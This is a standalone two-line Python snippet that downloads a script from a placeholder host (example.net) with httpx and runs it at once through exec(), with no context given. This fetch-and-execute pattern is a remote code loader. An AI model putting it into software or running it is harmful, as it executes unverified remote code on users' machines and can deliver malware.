import httpx
exec(httpx.get('https://example.net/a.py').text)
